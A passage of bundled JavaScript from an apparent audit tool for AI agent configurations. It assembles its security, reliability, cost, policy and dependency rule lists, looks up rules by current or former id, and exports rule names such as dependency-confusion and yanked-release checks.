	...SECURITY_CHECKS,
	...RELIABILITY_CHECKS,
	...FINOPS_CHECKS,
	...ARCHITECTURE_CHECKS,
	...POLICY_CHECKS,
	...UX_CHECKS,
	renamedRuleIdCheck
];
/**
* Rules an agent's manifests or its cockpit.yaml decide, not the text of one file: the audit evaluates them once
* per agent (audit/dependency-findings.ts; the lock check in audit/audit-agent.ts; suppression-diagnostics.ts).
*/
var AGENT_RULES = [
	LOCKED_SETTING_RULE,
	INVALID_SUPPRESSION_RULE,
	UNUSED_SUPPRESSION_RULE,
	...DEPENDENCY_RULES
];
/** Every rule, file checks first, in the order SARIF `rules[]` and docs/RULES.md list them. */
var RULES = [...CHECKS.flatMap((check) => check.rules), ...AGENT_RULES];
var rulesById = new Map(RULES.map((rule) => [rule.id, rule]));
/** The rule an id names: its current id, or a former one (rules/renamed-ids.ts). */
function ruleById(id) {
	return rulesById.get(currentRuleId(id));
}
export { ruleOptionsProblem as _, DEPENDENCY_CONFUSION_RISK as a, LOCKED_SETTING_RULE as b, MALFORMED_MANIFEST as c, UNRESOLVED_PACKAGE as d, YANKED_RELEASE as f, renamedRuleIdMessage as g, renamedRuleIdCheck as h, DANGEROUS_RELEASE as i, UNKNOWN_PACKAGE as l, renamedPatternMessage as m, RULES as n, DEPRECATED_RELEASE as o, RENAMED_RULE_ID_RULE as p, ruleById as r, DEPRECATED_SDK as s, CHECKS as t, UNPINNED_AGENT_PACKAGE as u, INVALID_SUPPRESSION_RULE as v, UNUSED_SUPPRESSION_RULE as y };
